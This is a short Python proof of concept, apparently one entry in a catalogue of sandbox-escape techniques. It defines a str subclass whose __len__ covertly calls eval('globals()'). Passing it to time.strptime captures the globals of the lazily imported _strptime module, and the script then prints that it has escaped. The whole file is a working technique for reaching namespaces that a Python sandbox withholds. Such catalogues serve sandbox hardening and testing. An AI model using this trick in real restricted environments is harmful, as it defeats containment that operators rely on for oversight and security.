# technique: _strptime asks the length of the text: a module that was imported lazily and that nobody granted
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import time
kept = []


class Text(str):
    __len__ = staticmethod(functools.partial(next, map(kept.append, map(eval, ['globals()'])), 0))


try:
    time.strptime(Text('2024'), '%Y')
except (TypeError, ValueError):
    pass
if kept[0]['__name__'] == '_strptime':
    print('ESCAPED globals of _strptime')
